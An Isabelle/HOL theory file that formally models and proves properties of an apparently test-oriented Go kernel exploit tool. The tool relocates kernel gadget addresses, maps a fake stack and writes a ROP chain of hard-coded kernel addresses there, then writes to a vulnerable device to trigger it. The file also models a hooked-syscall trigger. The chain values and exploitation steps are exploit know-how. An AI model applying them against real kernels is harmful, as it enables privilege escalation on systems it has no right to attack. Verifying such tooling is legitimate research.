(* ===== verification/Ktool_Trigger.thy ===== *)
theory Ktool_Trigger
  imports Ktool_Device Byte_Order
begin

text \<open>
  The remaining commands of \<^verbatim>\<open>cmd/ktool/run/vuln_device.go\<close>.  \<open>triggerCmd\<close> exercises the test module: it maps two
  pages around an address, writes a chain of relocated addresses there and writes to the device.  The mapped
  memory, which the program turns into a slice with \<open>unsafe\<close>, is a list of bytes delivered by the host with the
  base address the kernel chose; the law of the host is that it has the requested length.  The program asks for the
  address without \<open>MAP_FIXED\<close> and does not compare it with the one it gets, so the position in the
  slice may be anything: an index out of range is a panic.
\<close>

unbundle bit_operations_syntax

section \<open>Model\<close>

text \<open>\<open>PutUint64(b[lo:lo+8], v)\<close> with a signed position.\<close>

definition PutUint64 :: "ByteOrder \<Rightarrow> bytes \<Rightarrow> u64 \<Rightarrow> bytes result" where
  "PutUint64 bo b v = (if length b < 8 then Inl Panic else Inr (put_word bo 8 v @ drop 8 b))"

definition st64 :: "ByteOrder \<Rightarrow> bytes \<Rightarrow> int \<Rightarrow> u64 \<Rightarrow> bytes result" where
  "st64 bo b lo v =
     (if lo < 0 then Inl Panic
      else bindR (slice b (nat lo) (nat lo + 8))
             (\<lambda>s. bindR (PutUint64 bo s v) (\<lambda>s'. Inr (take (nat lo) b @ s' @ drop (nat lo + 8) b))))"

text \<open>The entries of the chain, each with the number of bytes that are left out behind it; \<open>None\<close> is the
  constant 0.\<close>

definition rop_chain :: "(u64 option \<times> nat) list" where
  "rop_chain =
     [(Some 0xffffffff81010663, 0xd),
      (None, 0),
      (Some 0xffffffff810c54d0, 0),
      (Some 0xffffffff81010bfa, 0),
      (Some 0xffffffff810c5156, 0),
      (Some 0xffffffff81012335, 0),
      (Some 0xffffffff82cd0e16, 0)]"

text \<open>One \<open>PutUint64\<close> per entry, followed by the advance of \<open>stackCursor\<close>.\<close>

fun write_chain ::
    "ByteOrder \<Rightarrow> DeviceHost \<Rightarrow> KtoolOptions \<Rightarrow> (u64 option \<times> nat) list \<Rightarrow> int \<Rightarrow> bytes \<Rightarrow> Reloc \<Rightarrow>
     (bytes \<times> effect list \<times> Reloc) result" where
  "write_chain bo h opts [] stackCursor kernelStack rl = Inr (kernelStack, [], rl)"
| "write_chain bo h opts ((gadget, skip) # rest) stackCursor kernelStack rl =
     (case (case gadget of None \<Rightarrow> (0, [], rl) | Some a \<Rightarrow> mustComputeKernelAddr h opts a rl) of
        (v, fx, rl) \<Rightarrow>
          bindR (st64 bo kernelStack stackCursor v)
            (\<lambda>kernelStack. bindR (write_chain bo h opts rest (stackCursor + 8 + int skip) kernelStack rl)
              (\<lambda>(kernelStack, fx', rl). Inr (kernelStack, fx @ fx', rl))))"

text \<open>The result, the effects, the mapped memory if there is one, and the displacement.\<close>

definition triggerCmd ::
    "ByteOrder \<Rightarrow> DeviceHost \<Rightarrow> KtoolOptions \<Rightarrow> Reloc \<Rightarrow>
     (error option \<times> effect list \<times> bytes option \<times> Reloc) result" where
  "triggerCmd bo h opts rl =
     (let fx = [SetLevel (kt_LogLevel opts)] in
      case parseVulnDeviceInfo h opts of
        Inl err \<Rightarrow> Inr (Some (Errorf ''couldn't trigger vulnerability: %v'' [] (Some err)), fx, None, rl)
      | Inr info \<Rightarrow>
          (let fx = fx @ [Detected (VulnDeviceInfo_String info)] in
           case computeKernelAddr h opts (kt_SystemMapGadgetAddr opts) rl of
             (Inl err, fx', rl) \<Rightarrow> Inr (Some err, fx @ fx', None, rl)
           | (Inr addr, fx', rl) \<Rightarrow>
               (let fakeStackAddr = addr AND 0xFFFFFFFF;
                    fx = fx @ fx' @ [FakeStack fakeStackAddr];
                    length = 2 * dh_Getpagesize h in
                case dh_Mmap h fakeStackAddr length of
                  Inl e1 \<Rightarrow> Inr (Some (Errorf ''couldn't map memory segment: %w'' [] (Some e1)), fx, None, rl)
                | Inr (fakeStackPageBaseAddr, kernelStack) \<Rightarrow>
                    (let stackCursor = sint (fakeStackAddr - fakeStackPageBaseAddr) in
                     bindR (write_chain bo h opts rop_chain stackCursor kernelStack rl)
                       (\<lambda>(kernelStack, fx', rl).
                          let fx = fx @ fx' in
                          case dh_OpenWronly h (kt_VulnDevicePath opts) of
                            Some err \<Rightarrow>
                              Inr (Some (Errorf ''couldn't open %s: %v'' [FStr (kt_VulnDevicePath opts)] (Some err)),
                                   fx, Some kernelStack, rl)
                          | None \<Rightarrow>
                              Inr (None,
                                   fx @ [DeviceWrite ''this is a simple string to trigger the vulnerability'',
                                         DeviceSync, CurrentUser (dh_Getuid h)],
                                   Some kernelStack, rl))))))"

text \<open>\<open>BytePtrFromString\<close> only fails on a name with a NUL byte.\<close>

definition hookedSyscallCmd :: "DeviceHost \<Rightarrow> KtoolOptions \<Rightarrow> error option \<times> effect list" where
  "hookedSyscallCmd h opts =
     (let fx = [SetLevel (kt_LogLevel opts)]; file = ''/tmp/hooked_syscall_trigger'' in
      if CHR 0x00 \<in> set file then (Some (ErrExternal ''EINVAL''), fx)
      else (case dh_SysOpen h file of
              Inl errno \<Rightarrow> (Some errno, fx)
            | Inr fd \<Rightarrow> (None, fx @ [Close fd])))"

section \<open>The chain in memory\<close>

text \<open>The image of the chain: the entries, with the old content of the memory where bytes are left out.\<close>

fun chain_image :: "ByteOrder \<Rightarrow> (u64 \<Rightarrow> u64) \<Rightarrow> (u64 option \<times> nat) list \<Rightarrow> bytes \<Rightarrow> bytes" where
  "chain_image bo reloc [] mem = mem"
| "chain_image bo reloc ((gadget, skip) # rest) mem =
     put_word bo 8 (case gadget of None \<Rightarrow> 0 | Some a \<Rightarrow> reloc a) @ take skip (drop 8 mem) @
     chain_image bo reloc rest (drop (8 + skip) mem)"

fun chain_length :: "(u64 option \<times> nat) list \<Rightarrow> nat" where
  "chain_length [] = 0"
| "chain_length [_] = 8"
| "chain_length ((_, skip) # rest) = 8 + skip + chain_length rest"

lemma st64_value:
  "st64 bo b lo v =
     (if 0 \<le> lo \<and> nat lo + 8 \<le> length b then Inr (take (nat lo) b @ put_word bo 8 v @ drop (nat lo + 8) b) else Inl Panic)"
  by (auto simp: st64_def slice_def PutUint64_def)

text \<open>A displacement that has been computed relocates every address in the same way.\<close>

definition relocates :: "Reloc \<Rightarrow> (u64 \<Rightarrow> u64) \<Rightarrow> bool" where
  "relocates rl f \<longleftrightarrow> (\<forall>h opts a. \<exists>fx. computeKernelAddr h opts a rl = (Inr (f a), fx, rl))"

lemma computed_relocates:
  assumes "computeKernelAddr h opts g rl = (Inr a, fx, rl')"
  shows "relocates rl' (\<lambda>x. x + (a - g))"
  using assms
  by (auto simp: relocates_def computeKernelAddr_def computeDiff_def Let_def split: sum.splits if_splits prod.splits option.splits)

lemma relocates_must: "relocates rl f \<Longrightarrow> \<exists>fx. mustComputeKernelAddr h opts a rl = (f a, fx, rl)"
proof -
  assume "relocates rl f"
  then obtain fx where "computeKernelAddr h opts a rl = (Inr (f a), fx, rl)" unfolding relocates_def by blast
  then show ?thesis by (simp add: mustComputeKernelAddr_def)
qed

lemma chain_length_ge: "cs \<noteq> [] \<Longrightarrow> 8 \<le> chain_length cs"
  by (induction cs rule: chain_length.induct) auto

lemma write_chain_writes:
  assumes f: "relocates rl f"
  shows "cs \<noteq> [] \<Longrightarrow>
    if 0 \<le> c \<and> nat c + chain_length cs \<le> length mem
    then \<exists>fx. write_chain bo h opts cs c mem rl =
      Inr (take (nat c) mem @ chain_image bo f cs (drop (nat c) mem), fx, rl)
    else write_chain bo h opts cs c mem rl = Inl Panic"
proof (induction cs arbitrary: c mem)
  case (Cons e rest)
  obtain g skip where e: "e = (g, skip)" by fastforce
  define v where "v = (case g of None \<Rightarrow> 0 | Some a \<Rightarrow> f a)"
  obtain fx where m: "(case g of None \<Rightarrow> (0, [], rl) | Some a \<Rightarrow> mustComputeKernelAddr h opts a rl) = (v, fx, rl)"
    using relocates_must [OF f, of h opts] by (cases g) (auto simp: v_def)
  let ?mem = "take (nat c) mem @ put_word bo 8 v @ drop (nat c + 8) mem"
  show ?case
  proof (cases "0 \<le> c \<and> nat c + 8 \<le> length mem")
    case False
    moreover have "8 \<le> chain_length (e # rest)" by (rule chain_length_ge) simp
    ultimately show ?thesis by (auto simp: e m st64_value)
  next
    case True
    then have n: "nat (c + 8 + int skip) = nat c + 8 + skip" by (simp add: nat_add_distrib)
    have l: "length ?mem = length mem" using True by simp
    show ?thesis
    proof (cases "rest = []")
      case True
      have "take skip (drop (8 + nat c) mem) @ drop (8 + (nat c + skip)) mem = drop (8 + nat c) mem"
        by (metis add.assoc add.commute append_take_drop_id drop_drop)
      with True \<open>0 \<le> c \<and> _\<close> show ?thesis by (simp add: e m st64_value v_def ac_simps)
    next
      case False
      then have k: "chain_length (e # rest) = 8 + skip + chain_length rest" by (cases rest) (simp_all add: e)
      have i: "take (nat c) mem @ chain_image bo f (e # rest) (drop (nat c) mem) =
          take (nat c + 8 + skip) ?mem @ chain_image bo f rest (drop (nat c + 8 + skip) ?mem)"
        using True by (simp add: e v_def min_absorb2 add.commute add.left_commute)
      from Cons.IH [OF False, of "c + 8 + int skip" ?mem] True show ?thesis
        unfolding i k n l by (auto simp: e m st64_value split: if_splits)
    qed
  qed
qed simp

section \<open>Properties\<close>

text \<open>C15: once the device and the displacement are known and the memory is mapped, the command writes the relocated
  chain at the distance of the wanted from the mapped address and leaves all other bytes as they are, whether or not
  the device can be opened afterwards; it panics exactly when the 69 bytes of the chain do not fit there, which happens
  when the kernel maps another page than the wanted one.\<close>

theorem trigger_writes_chain:
  assumes "parseVulnDeviceInfo h opts = Inr info"
    and "computeKernelAddr h opts (kt_SystemMapGadgetAddr opts) rl = (Inr addr, fx, rl')"
    and "dh_Mmap h (addr AND 0xFFFFFFFF) (2 * dh_Getpagesize h) = Inr (base, mem)"
    and "length mem = 2 * dh_Getpagesize h" and "c = sint ((addr AND 0xFFFFFFFF) - base)"
  shows "if 0 \<le> c \<and> nat c + 69 \<le> 2 * dh_Getpagesize h
    then \<exists>err fx'. triggerCmd bo h opts rl =
        Inr (err, fx', Some (take (nat c) mem @
          chain_image bo (\<lambda>x. x + (addr - kt_SystemMapGadgetAddr opts)) rop_chain (drop (nat c) mem)), rl') \<and>
        (err = None \<longleftrightarrow> dh_OpenWronly h (kt_VulnDevicePath opts) = None)
    else triggerCmd bo h opts rl = Inl Panic"
proof -
  have "chain_length rop_chain = 69" "rop_chain \<noteq> []" by (simp_all add: rop_chain_def)
  with write_chain_writes [OF computed_relocates [OF assms(2)], of rop_chain c mem bo h opts] show ?thesis
    using assms by (cases "dh_OpenWronly h (kt_VulnDevicePath opts)")
      (auto simp: triggerCmd_def Let_def simp del: chain_length.simps write_chain.simps split: if_splits)
qed

definition demo_trigger :: KtoolOptions where
  "demo_trigger = demo_opts\<lparr>kt_SystemMapGadgetAddr := 0xffffffff81010663\<rparr>"

definition moved_device :: DeviceHost where
  "moved_device = (demo_device 0x1000000)\<lparr>dh_Mmap := \<lambda>_ n. Inr (0x7f0000000000, replicate n 0)\<rparr>"

lemma demo_trigger_addr:
  "computeKernelAddr (demo_device 0x1000000) demo_trigger (kt_SystemMapGadgetAddr demo_trigger) \<lparr>rl_diff = 0, rl_sign = 0\<rparr> =
     (Inr 0xffffffff82010663, [Displaced True 0x1000000], \<lparr>rl_diff = 0x1000000, rl_sign = 1\<rparr>)"
  "computeKernelAddr moved_device demo_trigger (kt_SystemMapGadgetAddr demo_trigger) \<lparr>rl_diff = 0, rl_sign = 0\<rparr> =
     (Inr 0xffffffff82010663, [Displaced True 0x1000000], \<lparr>rl_diff = 0x1000000, rl_sign = 1\<rparr>)"
proof -
  have eq: "kt_KallsymsSystemMapOffsetSymbol demo_trigger = kt_KallsymsSystemMapOffsetSymbol demo_opts"
    "kt_SystemMapFile demo_trigger = kt_SystemMapFile demo_opts" "kt_SystemMapGadgetAddr demo_trigger = 0xffffffff81010663"
    "dh_ReadFile moved_device = dh_ReadFile (demo_device 0x1000000)"
    by (simp_all add: demo_trigger_def moved_device_def)
  note c = demo_compute [unfolded computeKernelAddr_def computeDiff_def]
  show "computeKernelAddr (demo_device 0x1000000) demo_trigger (kt_SystemMapGadgetAddr demo_trigger) \<lparr>rl_diff = 0, rl_sign = 0\<rparr> =
      (Inr 0xffffffff82010663, [Displaced True 0x1000000], \<lparr>rl_diff = 0x1000000, rl_sign = 1\<rparr>)"
    "computeKernelAddr moved_device demo_trigger (kt_SystemMapGadgetAddr demo_trigger) \<lparr>rl_diff = 0, rl_sign = 0\<rparr> =
      (Inr 0xffffffff82010663, [Displaced True 0x1000000], \<lparr>rl_diff = 0x1000000, rl_sign = 1\<rparr>)"
    unfolding computeKernelAddr_def computeDiff_def eq by (rule c)+
qed

lemma demo_trigger_info:
  "\<exists>info. parseVulnDeviceInfo (demo_device 0x1000000) demo_trigger = Inr info"
  "\<exists>info. parseVulnDeviceInfo moved_device demo_trigger = Inr info"
  by (simp_all add: parseVulnDeviceInfo_def demo_device_def moved_device_def strings_TrimPrefix_def ParseUint_def digit_val_def)

theorem trigger_writes_chain_witness:
  "(\<exists>fx m rl. triggerCmd LittleEndian (demo_device 0x1000000) demo_trigger \<lparr>rl_diff = 0, rl_sign = 0\<rparr> = Inr (None, fx, Some m, rl)) \<and>
   triggerCmd LittleEndian moved_device demo_trigger \<lparr>rl_diff = 0, rl_sign = 0\<rparr> = Inl Panic"
proof
  from demo_trigger_info(1) obtain info where i: "parseVulnDeviceInfo (demo_device 0x1000000) demo_trigger = Inr info" ..
  note trigger_writes_chain [OF i demo_trigger_addr(1), where base = "0x82010000" and mem = "replicate 8192 0" and c = "0x663" and bo = LittleEndian]
  then show "\<exists>fx m rl. triggerCmd LittleEndian (demo_device 0x1000000) demo_trigger \<lparr>rl_diff = 0, rl_sign = 0\<rparr> = Inr (None, fx, Some m, rl)"
    by (auto simp: demo_device_def)
next
  from demo_trigger_info(2) obtain info where i: "parseVulnDeviceInfo moved_device demo_trigger = Inr info" ..
  note trigger_writes_chain [OF i demo_trigger_addr(2), where base = "0x7f0000000000" and mem = "replicate 8192 0" and bo = LittleEndian, OF _ _ refl]
  then show "triggerCmd LittleEndian moved_device demo_trigger \<lparr>rl_diff = 0, rl_sign = 0\<rparr> = Inl Panic"
    by (auto simp: moved_device_def demo_device_def)
qed

end
